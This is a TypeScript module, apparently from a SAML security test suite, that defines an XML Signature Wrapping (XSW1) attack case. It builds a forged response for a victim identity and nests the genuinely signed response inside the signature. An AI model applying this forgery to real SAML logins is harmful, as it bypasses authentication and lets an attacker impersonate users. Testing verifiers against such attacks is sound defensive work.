import type { SamlAttack } from '../saml-attack.ts'
import { detach, editAnswer } from '../saml-attack.ts'
import { signAnswer } from '../saml-provider.ts'

export const attack: SamlAttack = {
  name: 'XSW1: the signed answer inside of the signature of a forged one',
  reason: 'wrapping',
  forge: ({ genuine, signer, victim }) =>
    editAnswer(signAnswer(genuine, signer, 'response'), ({ document, response, signature, copyAbout }) => {
      const forged = copyAbout(response, victim)
      detach(signature)
      document.replaceChild(forged, response)
      signature.appendChild(response)
      forged.insertBefore(signature, forged.firstChild)
    }),
}
